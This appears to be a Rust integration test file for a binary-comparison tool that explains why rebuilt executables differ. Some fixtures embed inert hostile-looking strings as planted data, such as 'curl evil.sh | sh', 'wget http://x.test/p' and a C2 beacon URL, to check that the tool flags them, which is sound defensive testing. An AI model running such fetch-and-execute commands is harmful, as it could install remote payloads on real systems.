@@ -1,0 +1,808 @@
+//! `rebuild-compare diff` on real binaries built by the tests (C via `cc`,
+//! Go via `go build`) and on PE / Mach-O fixtures written with `object`.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::OnceLock;
+
+use object::write::{Object as WriteObject, StandardSection};
+use object::{Architecture, BinaryFormat, Endianness};
+use serde_json::Value;
+use tempfile::TempDir;
+
+fn bin() -> &'static str {
+    env!("CARGO_BIN_EXE_rebuild-compare")
+}
+
+/// Runs `rebuild-compare diff a b args...`: exit code and stdout.
+fn run_diff(a: &Path, b: &Path, args: &[&str]) -> (i32, String) {
+    let out = Command::new(bin())
+        .arg("diff")
+        .arg(a)
+        .arg(b)
+        .args(args)
+        .env("NO_COLOR", "1")
+        .output()
+        .expect("run rebuild-compare");
+    assert!(
+        !String::from_utf8_lossy(&out.stderr).contains("panicked"),
+        "panic: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    (
+        out.status.code().expect("exit code"),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+    )
+}
+
+fn json_diff(a: &Path, b: &Path) -> (i32, Value) {
+    let (code, out) = run_diff(a, b, &["--format", "json"]);
+    (code, serde_json::from_str(&out).expect("valid JSON"))
+}
+
+fn explanations(v: &Value) -> Vec<String> {
+    v["explanations"]
+        .as_array()
+        .expect("explanations")
+        .iter()
+        .map(|e| e.as_str().expect("string").to_string())
+        .collect()
+}
+
+fn section<'v>(v: &'v Value, name: &str) -> &'v Value {
+    v["sections"]
+        .as_array()
+        .expect("sections")
+        .iter()
+        .find(|s| s["name"] == name)
+        .unwrap_or_else(|| panic!("no section {name} in {}", v["sections"]))
+}
+
+fn have(tool: &str) -> bool {
+    let found = Command::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !found {
+        eprintln!("skipping: {tool} is not installed (scripts/install-test-deps.sh)");
+    }
+    found
+}
+
+/// Compiles `source` with `cc flags...` into `dir/name` (from a file named
+/// `main.c` in `dir/name.src/`, so the symbol table's file name is the same
+/// for every build).
+fn cc(dir: &Path, name: &str, source: &str, flags: &[&str]) -> PathBuf {
+    let src = dir.join(format!("{name}.src"));
+    std::fs::create_dir_all(&src).expect("mkdir");
+    std::fs::write(src.join("main.c"), source).expect("write C source");
+    let out = dir.join(name);
+    let status = Command::new("cc")
+        .args(flags)
+        .arg("-o")
+        .arg(&out)
+        .arg("main.c")
+        .current_dir(&src)
+        .status()
+        .expect("run cc");
+    assert!(status.success(), "cc failed");
+    out
+}
+
+const HELLO_C: &str = "#include <stdio.h>\nint main(void) { puts(\"hello, world\"); return 0; }\n";
+
+fn planted_c(message: &str) -> String {
+    format!(
+        "#include <stdio.h>\nconst char *note = \"{message}\";\n\
+         int main(void) {{ puts(note); return 0; }}\n"
+    )
+}
+
+/// A Go cache shared by the tests of this binary (std compiles once).
+fn go_env() -> &'static TempDir {
+    static DIR: OnceLock<TempDir> = OnceLock::new();
+    DIR.get_or_init(|| TempDir::new().expect("tempdir"))
+}
+
+/// Writes a tiny dependency-free module into `dir/src` (unless it is
+/// there already) and builds it with `go build flags...` into `dir/name`.
+fn go_build(dir: &Path, name: &str, flags: &[&str]) -> PathBuf {
+    let src = dir.join("src");
+    if !src.exists() {
+        std::fs::create_dir_all(&src).expect("mkdir");
+        std::fs::write(src.join("go.mod"), "module example.com/hello\n\ngo 1.19\n")
+            .expect("go.mod");
+        std::fs::write(
+            src.join("main.go"),
+            "package main\n\nimport \"fmt\"\n\nvar version = \"dev\"\n\n\
+             func main() { fmt.Println(\"hello\", version) }\n",
+        )
+        .expect("main.go");
+    }
+    let env = go_env().path();
+    let out = dir.join(name);
+    let status = Command::new("go")
+        .arg("build")
+        .args(flags)
+        .arg("-o")
+        .arg(&out)
+        .arg(".")
+        .current_dir(&src)
+        .env("GOCACHE", env.join("cache"))
+        .env("GOPATH", env.join("gopath"))
+        .env("GOFLAGS", "-mod=mod")
+        .env("GO111MODULE", "on")
+        .env("GOPROXY", "off")
+        .env("CGO_ENABLED", "0")
+        .status()
+        .expect("run go build");
+    assert!(status.success(), "go build failed");
+    out
+}
+
+#[test]
+fn identical_binaries_exit_zero_and_say_so() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", HELLO_C, &[]);
+    let b = dir.path().join("b");
+    std::fs::copy(&a, &b).expect("copy");
+    let (code, text) = run_diff(&a, &b, &[]);
+    assert_eq!(code, 0);
+    assert!(text.contains("\nidentical\n"), "{text}");
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 0);
+    assert_eq!(v["identical"], true);
+    assert_eq!(explanations(&v), vec!["the files are identical"]);
+    assert!(v["sections"]
+        .as_array()
+        .expect("sections")
+        .iter()
+        .all(|s| s["status"] == "same"));
+}
+
+#[test]
+fn planted_string_is_named_in_the_explanations() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(
+        dir.path(),
+        "a",
+        &planted_c("beacon: https://c2.example.net/x"),
+        &[],
+    );
+    let b = cc(
+        dir.path(),
+        "b",
+        &planted_c("a harmless greeting, friends"),
+        &[],
+    );
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(v["identical"], false);
+    assert_eq!(
+        v["strings"]["only_a"][0],
+        "beacon: https://c2.example.net/x"
+    );
+    assert_eq!(v["strings"]["only_b"][0], "a harmless greeting, friends");
+    let explained = explanations(&v);
+    assert!(
+        explained.contains(&"strings only in A: \"beacon: https://c2.example.net/x\"".to_string()),
+        "{explained:?}"
+    );
+    let rodata = section(&v, ".rodata");
+    assert_eq!(rodata["status"], "differs");
+    let range = &rodata["ranges"][0];
+    assert!(range["length"].as_u64().expect("length") > 0);
+    assert!(range["file_offset"].as_u64().is_some());
+    // The text view has the hex dump of the change.
+    let (_, text) = run_diff(&a, &b, &[]);
+    assert!(text.contains("--- A .rodata"), "{text}");
+    let rodata_hunks = text.split("--- A .rodata").nth(1).expect("rodata hunks");
+    assert!(rodata_hunks.contains("|https://c2.examp|"), "{text}");
+}
+
+#[test]
+fn different_build_ids_only_are_recognised() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", HELLO_C, &["-Wl,--build-id=0x1111"]);
+    let b = cc(dir.path(), "b", HELLO_C, &["-Wl,--build-id=0x2222"]);
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(v["build_id"]["a"]["gnu"], "1111");
+    assert_eq!(v["build_id"]["b"]["gnu"], "2222");
+    let explained = explanations(&v);
+    assert!(
+        explained[0].starts_with("only the build ID differs (GNU build-id 1111 vs 2222)"),
+        "{explained:?}"
+    );
+    let differing: Vec<&str> = v["sections"]
+        .as_array()
+        .expect("sections")
+        .iter()
+        .filter(|s| s["status"] != "same")
+        .map(|s| s["name"].as_str().expect("name"))
+        .collect();
+    assert_eq!(differing, vec![".note.gnu.build-id"]);
+}
+
+#[test]
+fn stripped_against_unstripped_says_which_is_stripped() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", HELLO_C, &["-g", "-s"]);
+    let b = cc(dir.path(), "b", HELLO_C, &["-g"]);
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(section(&v, ".symtab")["status"], "only-b");
+    assert_eq!(section(&v, ".debug_info")["status"], "only-b");
+    assert_eq!(section(&v, ".text")["status"], "same");
+    let explained = explanations(&v);
+    assert!(
+        explained.iter().any(
+            |e| e.starts_with("only B has debug sections (") && e.ends_with("): A is stripped")
+        ),
+        "{explained:?}"
+    );
+}
+
+#[test]
+fn elf_against_script_is_compared_as_raw_bytes() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", HELLO_C, &[]);
+    let b = dir.path().join("run.sh");
+    std::fs::write(&b, "#!/bin/sh\necho hello, world\n").expect("write script");
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(v["a"]["format"], "elf");
+    assert_eq!(v["a"]["machine"], std::env::consts::ARCH);
+    assert_eq!(v["b"]["format"], "script");
+    assert_eq!(v["b"]["machine"], "any");
+    assert_eq!(
+        v["notes"][0],
+        "formats differ (elf vs script): compared as raw bytes"
+    );
+    assert_eq!(v["sections"].as_array().map(Vec::len), Some(1));
+    assert_eq!(section(&v, "[whole file]")["status"], "differs");
+    assert_eq!(
+        explanations(&v)[0],
+        format!(
+            "file formats differ: A is elf ({}), B is script (/bin/sh)",
+            std::env::consts::ARCH
+        )
+    );
+}
+
+#[test]
+fn truncated_elf_falls_back_to_raw_bytes_with_a_note() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", HELLO_C, &[]);
+    let bytes = std::fs::read(&a).expect("read");
+    let b = dir.path().join("truncated");
+    std::fs::write(&b, &bytes[..bytes.len() / 2]).expect("write");
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(v["b"]["format"], "elf");
+    let notes: Vec<&str> = v["notes"]
+        .as_array()
+        .expect("notes")
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    assert!(
+        notes
+            .iter()
+            .any(|n| n.starts_with("B looks like elf but does not parse (")
+                && n.ends_with("): compared as raw bytes")),
+        "{notes:?}"
+    );
+    let whole = section(&v, "[whole file]");
+    assert_eq!(whole["status"], "differs");
+    assert_eq!(whole["a_size"], bytes.len());
+    assert_eq!(whole["b_size"], bytes.len() / 2);
+}
+
+#[test]
+fn missing_file_is_an_error_with_exit_code_two() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a");
+    std::fs::write(&a, b"x").expect("write");
+    let out = Command::new(bin())
+        .arg("diff")
+        .arg(&a)
+        .arg(dir.path().join("missing"))
+        .output()
+        .expect("run");
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.starts_with("error: cannot open "), "{stderr}");
+}
+
+#[test]
+fn unknown_formats_differ_as_raw_bytes_and_empty_files_are_identical() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a.bin");
+    let b = dir.path().join("b.bin");
+    std::fs::write(&a, b"some data here").expect("write");
+    std::fs::write(&b, b"some DATA here").expect("write");
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    assert_eq!(v["a"]["format"], "unknown");
+    let whole = section(&v, "[whole file]");
+    assert_eq!(whole["differing_bytes"], 4);
+    assert_eq!(whole["ranges"][0]["offset"], 5);
+    assert_eq!(whole["ranges"][0]["length"], 4);
+    let e1 = dir.path().join("e1");
+    let e2 = dir.path().join("e2");
+    std::fs::write(&e1, b"").expect("write");
+    std::fs::write(&e2, b"").expect("write");
+    assert_eq!(run_diff(&e1, &e2, &[]).0, 0);
+}
+
+#[test]
+fn json_output_uses_the_contract_field_names() {
+    if !have("cc") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = cc(dir.path(), "a", &planted_c("first planted text"), &[]);
+    let b = cc(dir.path(), "b", &planted_c("other planted text"), &[]);
+    let (_, v) = json_diff(&a, &b);
+    let keys = |v: &Value| -> Vec<String> {
+        let mut k: Vec<String> = v.as_object().expect("object").keys().cloned().collect();
+        k.sort();
+        k
+    };
+    let has_all = |v: &Value, want: &[&str]| {
+        let k = keys(v);
+        for w in want {
+            assert!(k.contains(&w.to_string()), "{w} missing from {k:?}");
+        }
+    };
+    has_all(
+        &v,
+        &[
+            "identical",
+            "a",
+            "b",
+            "sections",
+            "go_buildinfo",
+            "strings",
+            "explanations",
+        ],
+    );
+    for side in ["a", "b"] {
+        has_all(&v[side], &["path", "sha256", "size", "format", "machine"]);
+        assert!(v[side]["sha256"]
+            .as_str()
+            .expect("sha256")
+            .starts_with("sha256:"));
+    }
+    assert_eq!(v["go_buildinfo"], Value::Null);
+    has_all(&v["strings"], &["only_a", "only_b"]);
+    let rodata = section(&v, ".rodata");
+    has_all(
+        rodata,
+        &[
+            "name",
+            "status",
+            "a_size",
+            "b_size",
+            "a_sha256",
+            "b_sha256",
+            "differing_bytes",
+            "ranges",
+        ],
+    );
+    has_all(&rodata["ranges"][0], &["offset", "length"]);
+    assert!(rodata["a_sha256"]
+        .as_str()
+        .expect("a_sha256")
+        .starts_with("sha256:"));
+}
+
+#[test]
+fn max_hunks_bounds_the_hex_dump() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a.bin");
+    let b = dir.path().join("b.bin");
+    let data = vec![0u8; 64 * 1024];
+    let mut changed = data.clone();
+    for i in 0..50 {
+        changed[i * 1024] = 0xff;
+    }
+    std::fs::write(&a, &data).expect("write");
+    std::fs::write(&b, &changed).expect("write");
+    let (code, out) = run_diff(
+        &a,
+        &b,
+        &["--format", "json", "--max-hunks", "3", "--context", "1"],
+    );
+    assert_eq!(code, 1);
+    let v: Value = serde_json::from_str(&out).expect("json");
+    assert_eq!(v["hunks"].as_array().map(Vec::len), Some(3));
+    // One changed line with one line of context on each side.
+    assert_eq!(v["hunks"][0]["lines"].as_array().map(Vec::len), Some(3));
+    assert_eq!(section(&v, "[whole file]")["hunks_omitted"], 47);
+    assert_eq!(section(&v, "[whole file]")["differing_bytes"], 50);
+}
+
+#[test]
+fn go_ldflags_difference_is_reported_as_a_build_setting() {
+    if !have("go") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = go_build(dir.path(), "a", &["-ldflags=-X main.version=1.0"]);
+    let b = go_build(dir.path(), "b", &["-ldflags=-X main.version=2.0"]);
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    let info = &v["go_buildinfo"];
+    assert!(info["a"]["go_version"]
+        .as_str()
+        .expect("go version")
+        .starts_with("go1."));
+    assert_eq!(info["a"]["path"], "example.com/hello");
+    assert_eq!(info["a"]["main"]["path"], "example.com/hello");
+    let differences = info["differences"].as_array().expect("differences");
+    assert_eq!(differences.len(), 1, "{differences:?}");
+    assert_eq!(differences[0]["key"], "build:-ldflags");
+    assert_eq!(differences[0]["a"], "-X main.version=1.0");
+    assert_eq!(differences[0]["b"], "-X main.version=2.0");
+    let explained = explanations(&v);
+    assert_eq!(
+        explained[0],
+        "Go build setting -ldflags: -X main.version=1.0 -> -X main.version=2.0 \
+         (different linker flags, e.g. -X version stamps or -s -w)"
+    );
+    assert!(v["build_id"]["a"]["go"].as_str().is_some());
+}
+
+#[test]
+fn go_trimpath_difference_points_at_embedded_paths() {
+    if !have("go") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let a = go_build(dir.path(), "a", &[]);
+    let b = go_build(dir.path(), "b", &["-trimpath"]);
+    let (code, v) = json_diff(&a, &b);
+    assert_eq!(code, 1);
+    let explained = explanations(&v);
+    assert_eq!(
+        explained[0],
+        "Go build setting -trimpath: (unset) -> true (one build embeds absolute source paths)"
+    );
+    let src_dir = dir.path().join("src");
+    let paths = explained
+        .iter()
+        .find(|e| e.starts_with("paths under "))
+        .unwrap_or_else(|| panic!("no paths explanation in {explained:?}"));
+    assert!(
+        paths.ends_with(
+            "embedded only in A: built without -trimpath (Go) or -ffile-prefix-map (C/Rust)"
+        ),
+        "{paths}"
+    );
+    let top = src_dir
+        .components()
+        .take(4)
+        .collect::<PathBuf>()
+        .display()
+        .to_string();
+    assert!(paths.contains(&top), "{paths} should name {top}");
+}
+
+/// A minimal x86-64 PE image with one `.text` section holding `code`.
+fn pe_image(code: &[u8]) -> Vec<u8> {
+    use object::pe;
+    use object::write::pe::{NtHeaders, Writer};
+    let mut buffer = Vec::new();
+    let mut writer = Writer::new(true, 0x1000, 0x200, &mut buffer);
+    writer.reserve_dos_header_and_stub();
+    writer.reserve_nt_headers(16);
+    writer.reserve_section_headers(1);
+    let text = writer.reserve_text_section(code.len() as u32);
+    writer.write_dos_header_and_stub().expect("dos header");
+    writer.write_nt_headers(NtHeaders {
+        machine: pe::IMAGE_FILE_MACHINE_AMD64,
+        time_date_stamp: 0,
+        characteristics: pe::IMAGE_FILE_EXECUTABLE_IMAGE | pe::IMAGE_FILE_LARGE_ADDRESS_AWARE,
+        major_linker_version: 14,
+        minor_linker_version: 0,
+        address_of_entry_point: text.virtual_address,
+        image_base: 0x1_4000_0000,
+        major_operating_system_version: 6,
+        minor_operating_system_version: 0,
+        major_image_version: 0,
+        minor_image_version: 0,
+        major_subsystem_version: 6,
+        minor_subsystem_version: 0,
+        subsystem: pe::IMAGE_SUBSYSTEM_WINDOWS_CUI,
+        dll_characteristics: pe::DllFlags::default(),
+        size_of_stack_reserve: 0x10_0000,
+        size_of_stack_commit: 0x1000,
+        size_of_heap_reserve: 0x10_0000,
+        size_of_heap_commit: 0x1000,
+    });
+    writer.write_section_headers();
+    writer.write_section(text.file_offset, code);
+    buffer
+}
+
+#[test]
+fn pe_images_are_compared_by_section() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a.exe");
+    let b = dir.path().join("b.exe");
+    std::fs::write(&a, pe_image(&[0xc3; 64])).expect("write");
+    let mut code = [0xc3; 64];
+    code[10] = 0x90;
+    std::fs::write(&b, pe_image(&code)).expect("write");
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    assert_eq!(v["a"]["format"], "pe");
+    assert_eq!(v["a"]["machine"], "x86_64");
+    assert_eq!(section(&v, "[PE headers]")["status"], "same");
+    let text = section(&v, ".text");
+    assert_eq!(text["status"], "differs");
+    assert_eq!(text["differing_bytes"], 1);
+    assert_eq!(text["ranges"][0]["offset"], 10);
+    // Headers fill the first 0x200 bytes (the file alignment).
+    assert_eq!(text["ranges"][0]["file_offset"], 0x200 + 10);
+}
+
+/// A Mach-O object with code and a data string.
+fn macho_object(arch: Architecture, data: &[u8]) -> Vec<u8> {
+    let mut object = WriteObject::new(BinaryFormat::MachO, arch, Endianness::Little);
+    let text = object.section_id(StandardSection::Text);
+    object.append_section_data(text, &[0xc3; 16], 16);
+    let data_section = object.section_id(StandardSection::Data);
+    object.append_section_data(data_section, data, 8);
+    object.write().expect("write Mach-O")
+}
+
+/// A universal (fat) Mach-O holding `slices` (big-endian fat header).
+fn fat_macho(slices: &[(u32, Vec<u8>)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    out.extend_from_slice(&0xcafe_babe_u32.to_be_bytes());
+    out.extend_from_slice(&(slices.len() as u32).to_be_bytes());
+    let mut offset = 0x1000u32;
+    let mut bodies = Vec::new();
+    for (cputype, body) in slices {
+        out.extend_from_slice(&cputype.to_be_bytes());
+        out.extend_from_slice(&0u32.to_be_bytes());
+        out.extend_from_slice(&offset.to_be_bytes());
+        out.extend_from_slice(&(body.len() as u32).to_be_bytes());
+        out.extend_from_slice(&12u32.to_be_bytes());
+        bodies.push((offset, body));
+        offset += (body.len() as u32).div_ceil(0x1000) * 0x1000;
+    }
+    for (offset, body) in bodies {
+        out.resize(offset as usize, 0);
+        out.extend_from_slice(body);
+    }
+    out
+}
+
+#[test]
+fn macho_files_are_compared_by_segment_and_section() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a.o");
+    let b = dir.path().join("b.o");
+    std::fs::write(
+        &a,
+        macho_object(Architecture::Aarch64, b"curl evil.sh | sh\0"),
+    )
+    .expect("w");
+    std::fs::write(
+        &b,
+        macho_object(Architecture::Aarch64, b"echo hello world\0\0"),
+    )
+    .expect("w");
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    assert_eq!(v["a"]["format"], "macho");
+    assert_eq!(v["a"]["machine"], "aarch64");
+    assert_eq!(section(&v, "__TEXT,__text")["status"], "same");
+    assert_eq!(section(&v, "__DATA,__data")["status"], "differs");
+    assert_eq!(section(&v, "[Mach-O header]")["status"], "same");
+    assert_eq!(v["strings"]["only_a"][0], "curl evil.sh | sh");
+}
+
+#[test]
+fn universal_macho_slices_are_compared_per_architecture() {
+    const CPU_TYPE_X86_64: u32 = 0x0100_0007;
+    const CPU_TYPE_ARM64: u32 = 0x0100_000c;
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a");
+    let b = dir.path().join("b");
+    let build = |arm_data: &[u8]| {
+        fat_macho(&[
+            (
+                CPU_TYPE_X86_64,
+                macho_object(Architecture::X86_64, b"same on both\0"),
+            ),
+            (
+                CPU_TYPE_ARM64,
+                macho_object(Architecture::Aarch64, arm_data),
+            ),
+        ])
+    };
+    std::fs::write(&a, build(b"arm64 slice A\0")).expect("w");
+    std::fs::write(&b, build(b"arm64 slice B\0")).expect("w");
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    assert_eq!(v["a"]["format"], "macho");
+    assert_eq!(v["a"]["machine"], "universal(x86_64,aarch64)");
+    assert_eq!(section(&v, "[fat header]")["status"], "same");
+    assert_eq!(section(&v, "[x86_64] __DATA,__data")["status"], "same");
+    let arm = section(&v, "[aarch64] __DATA,__data");
+    assert_eq!(arm["status"], "differs");
+    assert_eq!(arm["differing_bytes"], 1);
+    assert_eq!(
+        arm["ranges"][0]["file_offset"].as_u64(),
+        arm["ranges"][0]["b_file_offset"].as_u64()
+    );
+}
+
+#[test]
+fn identify_reports_format_and_machine_of_one_file() {
+    let dir = TempDir::new().expect("tempdir");
+    let script = dir.path().join("s");
+    std::fs::write(&script, "#!/usr/bin/env python3\nprint(1)\n").expect("w");
+    let kind = rebuild_compare::diff::identify(&script).expect("identify");
+    assert_eq!(kind.format, rebuild_compare::diff::Format::Script);
+    assert_eq!(kind.interpreter.as_deref(), Some("/usr/bin/env"));
+    let pe = dir.path().join("p.exe");
+    std::fs::write(&pe, pe_image(&[0xc3; 16])).expect("w");
+    let kind = rebuild_compare::diff::identify(&pe).expect("identify");
+    assert_eq!(kind.format, rebuild_compare::diff::Format::Pe);
+    assert_eq!(kind.machine, "x86_64");
+    assert!(rebuild_compare::diff::identify(&dir.path().join("none")).is_err());
+}
+
+/// A relocatable ELF for `arch` with `data` in `.data`.
+fn elf_object(arch: Architecture, endian: Endianness, data: &[u8]) -> Vec<u8> {
+    let mut object = WriteObject::new(BinaryFormat::Elf, arch, endian);
+    let text = object.section_id(StandardSection::Text);
+    object.append_section_data(text, &[0; 8], 4);
+    let data_section = object.section_id(StandardSection::Data);
+    object.append_section_data(data_section, data, 4);
+    object.write().expect("write ELF")
+}
+
+#[test]
+fn big_endian_32_bit_elf_is_compared_by_section() {
+    let dir = TempDir::new().expect("tempdir");
+    let a = dir.path().join("a.o");
+    let b = dir.path().join("b.o");
+    let big = Endianness::Big;
+    std::fs::write(
+        &a,
+        elf_object(Architecture::Mips, big, b"wget http://x.test/p\0"),
+    )
+    .expect("w");
+    std::fs::write(
+        &b,
+        elf_object(Architecture::Mips, big, b"nothing to see here.\0"),
+    )
+    .expect("w");
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    assert_eq!(v["a"]["format"], "elf");
+    assert_eq!(v["a"]["machine"], "mips");
+    assert_eq!(section(&v, ".text")["status"], "same");
+    assert_eq!(section(&v, ".data")["status"], "differs");
+    assert_eq!(section(&v, "[ELF header]")["a_size"], 52);
+    assert_eq!(v["strings"]["only_a"][0], "wget http://x.test/p");
+}
+
+#[test]
+fn rust_toolchain_and_cargo_auditable_dependencies_are_compared() {
+    use flate2::write::ZlibEncoder;
+    use std::io::Write;
+    if !have("rustc") || !have("objcopy") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    let src = dir.path().join("main.rs");
+    std::fs::write(&src, "fn main() { println!(\"hi\"); }\n").expect("write");
+    let built = dir.path().join("hello");
+    let status = Command::new("rustc")
+        .arg("-o")
+        .arg(&built)
+        .arg(&src)
+        .status()
+        .expect("run rustc");
+    assert!(status.success());
+    let with_deps = |name: &str, serde_version: &str| {
+        let json = format!(
+            r#"{{"packages":[{{"name":"hello","version":"0.1.0","source":"local","root":true}},
+            {{"name":"serde","version":"{serde_version}","source":"crates.io"}}]}}"#
+        );
+        let mut encoder = ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(json.as_bytes()).expect("compress");
+        let dep_file = dir.path().join(format!("{name}.dep"));
+        std::fs::write(&dep_file, encoder.finish().expect("compress")).expect("write");
+        let out = dir.path().join(name);
+        let status = Command::new("objcopy")
+            .arg(format!("--add-section=.dep-v0={}", dep_file.display()))
+            .arg(&built)
+            .arg(&out)
+            .status()
+            .expect("run objcopy");
+        assert!(status.success());
+        out
+    };
+    let a = with_deps("a", "1.0.1");
+    let b = with_deps("b", "1.0.2");
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    let rustc = v["rust"]["a"]["rustc"].as_str().expect("rustc version");
+    assert!(rustc.starts_with("rustc version "), "{rustc}");
+    assert_eq!(v["rust"]["a"]["packages"][1]["version"], "1.0.1");
+    let differences = v["rust"]["differences"].as_array().expect("differences");
+    assert_eq!(differences.len(), 1);
+    assert_eq!(differences[0]["key"], "dep:serde");
+    assert!(explanations(&v)
+        .contains(&"Rust dependency serde: 1.0.1 (crates.io) -> 1.0.2 (crates.io)".to_string()));
+}
+
+#[test]
+fn go_build_from_a_modified_tree_is_explained() {
+    if !have("go") || !have("git") {
+        return;
+    }
+    let dir = TempDir::new().expect("tempdir");
+    // The first build writes the module; commit it so VCS stamping applies.
+    go_build(dir.path(), "unstamped", &[]);
+    let src = dir.path().join("src");
+    let git = |args: &[&str]| {
+        let status = Command::new("git")
+            .args(args)
+            .current_dir(&src)
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@example.com")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@example.com")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .status()
+            .expect("run git");
+        assert!(status.success(), "git {args:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "go.mod", "main.go"]);
+    git(&["commit", "-q", "-m", "init"]);
+    let a = go_build(dir.path(), "a", &[]);
+    // A change that leaves the code as it is.
+    std::fs::write(
+        src.join("go.mod"),
+        "module example.com/hello\n\ngo 1.19\n\n",
+    )
+    .expect("w");
+    let b = go_build(dir.path(), "b", &[]);
+    let (exit, v) = json_diff(&a, &b);
+    assert_eq!(exit, 1);
+    let explained = explanations(&v);
+    assert_eq!(
+        explained[0],
+        "Go build setting vcs.modified: false -> true (B was built from a modified source tree)",
+        "{explained:?}"
+    );
+}
